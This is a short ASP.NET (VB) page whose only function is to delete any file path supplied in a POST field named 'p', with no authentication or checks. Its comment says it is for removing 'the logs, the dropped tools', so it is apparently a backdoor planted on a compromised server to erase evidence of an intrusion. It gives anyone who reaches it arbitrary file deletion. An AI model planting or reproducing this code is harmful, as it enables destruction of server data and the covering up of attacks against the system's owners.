<%@ Page Language="VB" %>
<script runat="server">
' Removes the file a form field names (the logs, the dropped tools).
Sub Page_Load(s As Object, e As EventArgs)
    If Request.Form("p") <> "" Then System.IO.File.Delete(Request.Form("p"))
End Sub
</script>
